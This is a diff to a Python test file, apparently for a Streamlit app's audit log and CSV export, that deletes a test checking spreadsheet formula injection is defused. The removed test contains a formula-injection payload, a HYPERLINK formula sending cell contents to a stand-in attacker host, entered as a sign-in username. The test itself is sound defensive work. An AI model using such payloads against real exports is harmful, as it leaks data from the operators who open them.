@@ -303,26 +303,6 @@ def test_operators_read_the_audit_log(home_copy, monkeypatch):
     assert "a long operator password" not in rendered_text(at)
 
 
-def test_csv_downloads_defuse_spreadsheet_formulas(home_copy, monkeypatch):
-    """A sign-in attempt's username is anyone's text and lands in the audit log an operator
-    downloads: a cell starting with = + - @ must not run as a formula in a spreadsheet."""
-    import csv
-    import io
-
-    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    with pytest.raises(users.SignInFailed):
-        users.sign_in(home_copy, attack, "whatever", client="10.1.2.3")
-    sent = {}
-    monkeypatch.setattr(fmt.st, "download_button", lambda *a, **kw: sent.update(kw))
-    log = audit.read(home_copy)
-    fmt.download_csv(log.assign(amount=-5.0, note=["+1", *["-x"] * (len(log) - 1)]), "x", "k")
-    rows = list(csv.DictReader(io.StringIO(sent["data"].decode())))
-    cells = [v for row in rows for k, v in row.items() if k != "amount"]
-    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
-    assert attack.lower() in {row["username"].lstrip("'") for row in rows}  # still readable
-    assert {row["amount"] for row in rows} == {"-5.0"}  # numbers stay numbers
-
-
 def test_an_lp_name_with_markup_is_shown_as_plain_text(home_copy, monkeypatch):
     """Names are user text: the capital account's heading (st.subheader renders markdown)
     must show a name like this as written, with no link, image, emphasis or directive."""
